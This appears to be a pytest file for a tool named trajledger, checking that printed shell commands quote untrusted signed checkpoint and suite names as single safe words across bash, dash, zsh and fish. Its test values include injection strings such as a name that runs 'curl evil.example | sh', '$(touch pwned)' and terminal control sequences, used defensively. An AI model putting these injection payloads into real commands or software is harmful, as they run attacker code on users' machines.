"""The next steps ``release`` prints are commands whose words are shell words (rev48 finding 1;
rev47's Left): a signed name (a checkpoint's in an evaluation, a suite's, an imported
checkpoint's) is its signer's text, and one holding ``'``, ``;``, ``$(...)`` or a line break
was printed inside ``'trajledger eval NAME ...'`` as it is: pasted, the user's shell ran the
rest as code. Each test reads the printed command back as a shell does (`shlex.split`) and
wants the words the user means, the name one word as signed.
"""

from __future__ import annotations

import shlex
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
import testkit

from trajledger.verify.release_rules import Requirement
from trajledger.verify.report import Edge, Node, Report

EVIL = "bc'; curl evil.example | sh; echo '"
"""A checkpoint's (or suite's) signed name that closes the prose quote and runs a command."""
BRACES = "s{x} `id` $HOME"
"""A suite's signed name that holds a format field, a command substitution and a variable."""


def argv(text: str, start: str, end: str) -> list[str]:
    """The words a shell reads from ``text`` between ``start`` (included) and ``end``
    (included), the command a message tells the user to run."""
    i = text.index(start)
    return shlex.split(text[i:text.index(end, i) + len(end)])


def test_the_contamination_step_names_the_checkpoint_as_one_shell_word() -> None:
    """Before: ``run 'trajledger eval bc'; curl evil.example | sh; echo '@1 --suite …'``."""
    from trajledger.runner.release import _refusal
    from trajledger.verify.releases import release_requirement

    node = Node("release:x", "release-decision")
    ck = Node("sha256:" + "c" * 64, "checkpoint", name=EVIL, version="1")
    rec = testkit.unchecked_evaluation(EVIL)
    release_requirement(node, Requirement("regression@1", min=0.5), ck.id, rec, None, [], None,
                        train=lambda _ck: {"sha256:" + "a" * 64: ["train x@1"]}, strict=True)
    report = Report(node.id, [node.id], {node.id: node, ck.id: ck},
                    [Edge(node.id, ck.id, "checkpoint")])
    _lines, steps = _refusal(report, node.id, f"{EVIL}@1", "approve")
    assert len(steps) == 1, steps
    assert argv(steps[0], "trajledger eval", "--key KEY") == [
        "trajledger", "eval", f"{EVIL}@1", "--suite", "regression@1", "--key", "KEY"], steps


@pytest.mark.parametrize("released", [True, False])
def test_the_contamination_line_names_the_checkpoint_evaluated_by_its_digest(
        released: bool) -> None:
    """rev48 finding 8: the check's line (``verify``, ``python -m trajledger.verify``) named
    the checkpoint to evaluate again by the evaluation's name for it, its signer's text (an
    evaluator names the checkpoint of digest D ``prod@3``; after a name clash, the vendor's
    evaluation names the buyer's own): ``run 'trajledger eval prod@3 …'`` evaluated another
    checkpoint. Its digest now; ``release``'s step the released checkpoint's name as commands
    find it (finding 6), another checkpoint's digest."""
    from trajledger.runner.release import _refusal
    from trajledger.verify.releases import release_requirement

    node = Node("release:x", "release-decision")
    ck = Node("sha256:" + "c" * 64, "checkpoint", name="bc", version="1")
    release_requirement(node, Requirement("regression@1", min=0.5), ck.id,
                        testkit.unchecked_evaluation("prod"), None, [], None,
                        train=lambda _ck: {"sha256:" + "a" * 64: ["train x@1"]}, strict=True)
    told = argv(node.checks[-1].detail, "trajledger eval", "--key KEY")
    assert told[2] == ck.id, node.checks[-1].detail
    edges = [Edge(node.id, ck.id, "checkpoint")] if released else []
    _lines, steps = _refusal(Report(node.id, [node.id], {node.id: node, ck.id: ck}, edges),
                             node.id, "bc@1", "approve")
    assert argv(steps[0], "trajledger eval", "--key KEY")[2] == ("bc@1" if released
                                                                  else ck.id), steps


def _failing_evaluator(suite: str) -> tuple[Report, str]:
    """A release of bc@1 whose evaluation on ``suite`` stands on a failing evaluator."""
    decision = Node("release:x", "release-decision")
    ck = Node("sha256:" + "c" * 64, "checkpoint", name="bc", version="1")
    run = Node("sha256:" + "e" * 64, "evaluation", name="run", version="1")
    on = Node("sha256:" + "d" * 64, "dataset", name=suite, version="1")
    judge = Node("sha256:" + "f" * 64, "evaluator", name="judge", version="1")
    judge.fail("revocation", "revoked at log index 9")
    edges = [Edge(decision.id, ck.id, "checkpoint"), Edge(decision.id, run.id, "evaluation"),
             Edge(run.id, on.id, "suite"), Edge(run.id, judge.id, "evaluator")]
    nodes: dict[str, Any] = {n.id: n for n in (decision, ck, run, on, judge)}
    return Report(decision.id, [decision.id, run.id, judge.id], nodes, edges), decision.id


def test_the_evaluate_again_step_names_the_suite_as_one_shell_word() -> None:
    """Before: the suite's name raw in ``'trajledger eval bc@1 --suite NAME --key KEY'``."""
    from trajledger.runner.release import _refusal

    report, decision = _failing_evaluator(EVIL)
    _lines, steps = _refusal(report, decision, "bc@1", "approve")
    assert len(steps) == 1, steps
    assert argv(steps[0], "trajledger eval", "NAME@VERSION") == [
        "trajledger", "eval", "bc@1", "--suite", f"{EVIL}@1", "--key", "KEY", "--evaluator",
        "NAME@VERSION"], steps


def test_a_suite_named_with_braces_is_a_step_not_a_crash() -> None:
    """rev48 finding 2: the step was an f-string then ``str.format``-ed with the evaluator
    option: a suite named ``s{x}…`` raised ``KeyError: 'x'`` (exit 4, a traceback)."""
    from trajledger.runner.release import _refusal

    report, decision = _failing_evaluator(BRACES)
    _lines, steps = _refusal(report, decision, "bc@1", "approve")
    assert argv(steps[0], "trajledger eval", "NAME@VERSION")[4] == f"{BRACES}@1", steps


def test_more_approvers_names_the_checkpoint_and_keys_as_shell_words() -> None:
    """``release``'s step for too few approvers: ``'trajledger release CK --key K … --key
    NAME'``; CK is the checkpoint's name (an imported one is its signer's text)."""
    from trajledger.runner.release import _more_approvers

    class Keys:
        def list(self) -> list[Any]:
            return []

    class Ledger:
        keys = Keys()

    class Rules:
        approvals = 2

    class Policy:
        release = Rules()

        def holds(self, *_a: Any) -> bool:
            return True

    said = _more_approvers(Ledger(), Policy(), f"{EVIL}@1",  # type: ignore[arg-type]
                           [("alice", "k1")])
    assert argv(said, "trajledger release", "--key NAME") == [
        "trajledger", "release", f"{EVIL}@1", "--key", "alice", "--key", "NAME"], said


@pytest.mark.parametrize("name", [
    "a\u202eb", "x\x85[2Jy", "bc\x1b[2K\r (sha256:ab)", "it's (sha256:ab)", "a\u2028b",
    "plain-x_1.0", "caf\u00e9"])
def test_a_names_shell_word_is_read_back_as_the_name_and_shown_in_ascii(name: str) -> None:
    """`shell_word`: a bidirectional control (U+202E), NEL and the other C1 controls (0x85,
    0x9b: CSI in some terminals), a line separator were printed raw before (rev48 finding 3:
    only C0 controls and DEL made the ``$'...'`` form); with `NAMED`, a parenthesis too (a
    name's ``(sha256:<another digest>)``, rev32). bash reads each back as the name."""
    from trajledger.ledger.errors import shell_word as path_word
    from trajledger.verify.report import HIDDEN

    word = path_word(name)  # (a path's: `HIDDEN`; its one place before)
    assert word.translate(HIDDEN) == word, word
    from trajledger.verify.nodes import NAMED
    from trajledger.verify.shell_word import shell_word

    word = shell_word(name, NAMED)
    printed = subprocess.run(["bash", "-c", f"printf %s {word}"], capture_output=True,
                             check=True).stdout
    assert printed == name.encode(), word
    assert word.translate(NAMED) == word, word  # nothing a terminal hides, no parenthesis


@pytest.mark.skipif(shutil.which("dash") is None, reason="no dash here")
@pytest.mark.parametrize("name", ["x\x01'; touch pwned; #", "a\u202e'$(touch pwned)'",
                                  "it's\x1b[2J\\'; touch pwned; '"])
def test_a_names_shell_word_runs_nothing_in_a_shell_without_dollar_quotes(
        name: str, tmp_path: Path) -> None:
    """rev49 finding 2: the ``$'...'`` form held the name's quote as ``\\'``, which a shell
    without ``$'...'`` (dash 0.5.12, Debian's ``sh``) reads as a backslash then the end of a
    quoted string: ``$'x\\x01\\'; touch pwned; #'`` ran ``touch pwned`` there. bash reads the
    name back; dash reads some word, and runs nothing."""
    from trajledger.verify.nodes import NAMED
    from trajledger.verify.shell_word import shell_word

    for table in (None, NAMED):
        word = shell_word(name, table)
        for shell in ("bash", "dash"):
            printed = subprocess.run([shell, "-c", f"printf %s {word}"], capture_output=True,
                                     cwd=tmp_path, check=True).stdout
            assert printed == name.encode() or shell == "dash", (shell, word, printed)
            assert not (tmp_path / "pwned").exists(), (shell, word)


def test_a_missing_suites_record_step_names_it_as_shell_words() -> None:
    """``missing: no holdout or regression dataset S of the release's own log …: record the
    suite in this log ('trajledger dataset create NAME --version V --split regression …')``:
    NAME and V are the policy's suite (a policy file given to ``python -m trajledger.verify``
    is the auditor's, or a vendor's; `names.suite_problems` runs only at ``policy check`` and
    ``policy set``), pasted as they were."""
    from types import SimpleNamespace

    from trajledger.verify.releases import release_rules

    suite = "reg'; `id` ;'@1'$HOME"
    rules = SimpleNamespace(approvals=1, require=[Requirement(suite, min=0.5)],
                            require_contamination_check=False)
    index = SimpleNamespace(held_out=lambda: [], unreadable=lambda: [])
    v = SimpleNamespace(policy=SimpleNamespace(release=rules), checkpoint=SimpleNamespace(
        size=10), dependencies=lambda _ck: [], index=index)
    node = Node("release:x", "release-decision")
    release_rules(v, node, "sha256:" + "c" * 64, None, 1)  # type: ignore[arg-type]
    (check,) = [c for c in node.checks if c.status == "fail"]
    name, _, version = suite.rpartition("@")
    assert argv(check.detail, "trajledger dataset create", "--split") == [
        "trajledger", "dataset", "create", name, "--version", version, "--split"], check.detail
    assert argv(check.detail, "trajledger eval", "--key KEY")[4] == suite, check.detail


def _backslash_in_single_quotes(word: str) -> bool:
    """Whether ``word`` holds a backslash inside single quotes (not ``$'...'``): fish reads
    ``\\'`` and ``\\\\`` there as escapes, every POSIX shell as the characters."""
    quote, last = "", ""
    for c in word:
        if quote == "'" and c == "\\":
            return True
        if c == quote[-1:] and (quote != "$'" or last != "\\"):  # (its closing quote)
            quote = ""
        elif not quote and c in "'\"":
            quote = "$'" if c == "'" and last == "$" else c
        last = c
    return False


@pytest.mark.parametrize("name", ["A\\'\"; touch pwned; #", "x\x01\\'\"; touch pwned; #",
                                  "caf\u00e9\\'$(touch pwned)\"'", "=sh", "\\", ""])
def test_a_names_shell_word_is_one_word_in_fish_and_zsh_too(name: str, tmp_path: Path) -> None:
    """rev50 finding 3: fish reads ``\\'`` inside single quotes as a quote, so `shlex.quote`'s
    ``'A\\'"'"'"; touch pwned; #'`` (an imported record's name ``A\\'"; touch pwned; #``,
    printed in a step) ran ``touch pwned`` in fish 3.6; zsh reads a word ``=sh`` as
    ``/usr/bin/sh``. Expected: no backslash inside single quotes, no word starting ``=``;
    every shell here reads the name back (a ``$'...'`` piece: bash and zsh; dash and fish
    read another word or refuse the line) and runs nothing."""
    from trajledger.verify.nodes import NAMED
    from trajledger.verify.shell_word import shell_word

    for table in (None, NAMED):
        word = shell_word(name, table)
        assert not _backslash_in_single_quotes(word) and not word.startswith("="), word
        for shell in ("bash", "dash", "zsh", "fish"):
            if shutil.which(shell) is None:
                continue
            r = subprocess.run([shell, "-c", f"printf %s {word}"], capture_output=True,
                               cwd=tmp_path, check=False)
            assert r.stdout == name.encode() or ("$'" in word and shell in ("dash", "fish")), (
                shell, word, r.stdout, r.stderr)
            assert not (tmp_path / "pwned").exists(), (shell, word)


@pytest.mark.parametrize("suite", ["p (q)", "-x"])
def test_the_evaluate_again_step_names_a_suite_not_every_shell_reads_by_its_digest(
        suite: str) -> None:
    """rev50 finding 4: ``'trajledger eval bc@1 --suite 'p '$'\\x28'q$'\\x29'@1 …'`` (dash
    reads ``p $\\x28q$\\x29@1``, fish refuses the line), ``--suite -x@1`` (an option)."""
    from trajledger.runner.release import _refusal

    report, decision = _failing_evaluator(suite)
    _lines, steps = _refusal(report, decision, "bc@1", "approve")
    assert argv(steps[0], "trajledger eval", "NAME@VERSION")[4] == "sha256:" + "d" * 64, steps
